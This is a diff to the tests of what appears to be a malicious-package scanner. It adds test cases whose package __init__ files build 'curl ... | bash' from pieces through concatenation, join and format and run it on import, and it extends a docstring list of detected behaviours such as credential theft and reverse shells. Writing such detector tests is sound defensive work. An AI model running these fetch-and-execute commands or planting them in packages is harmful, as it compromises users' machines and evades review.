@@ -9,7 +9,8 @@ body; a key logger; credential files, the whole environment and the documents fo
 walking the user's home sent from a function; a download run by ``mshta``; a shell on a
 socket's streams; Defender turned off; Discord's client injected with a download; a Slack
 token written in, the user's name sent with it; a program the wheel ships started hidden
-when the package is imported. And what an
+when the package is imported; a command built from pieces (joined, concatenated,
+formatted). And what an
 sdist keeps beside its package for its developers (``scripts/``) is not judged as code it
 installs.
 
@@ -587,4 +588,34 @@ PROGRAM = b"MZ" + b"\x90\x00" * 30 + b"This program cannot be run in DOS mode" +
 def test_a_program_the_wheel_ships_started_hidden_on_import_is_held(init: str, held: bool) -> None:
     archive = wheel({"demo/__init__.py": init, "demo/svc.exe": PROGRAM})
     report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
+    assert (not POLICY.decide(report).allowed) is held, report.findings
+
+
+@pytest.mark.parametrize(
+    ("init", "held"),
+    [
+        ('import os\nos.system("cu" + "rl -s htt" + "ps://x.example.com/a | ba" + "sh")\n', True),
+        (
+            "import subprocess\n"
+            'cmd = " ".join(["curl", "-s", "https://x.example.com/a", "|", "bash"])\n'
+            "subprocess.Popen(cmd, shell=True)\n",
+            True,
+        ),
+        (
+            'import os\nos.system("{} -s {} | {}".format("curl", "https://x.example.com/a", "sh"))\n',
+            True,
+        ),
+        # Advice built the same way, printed, not run.
+        (
+            "import subprocess\n"
+            'print("install it with: " + "curl -s https://x.example.com/a | sh")\n'
+            'subprocess.run(["git", "--version"])\n',
+            False,
+        ),
+    ],
+    ids=["concatenated", "joined", "formatted", "printed"],
+)
+def test_a_command_built_from_pieces_is_read_whole(init: str, held: bool) -> None:
+    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
+    assert report.incomplete is None
     assert (not POLICY.decide(report).allowed) is held, report.findings
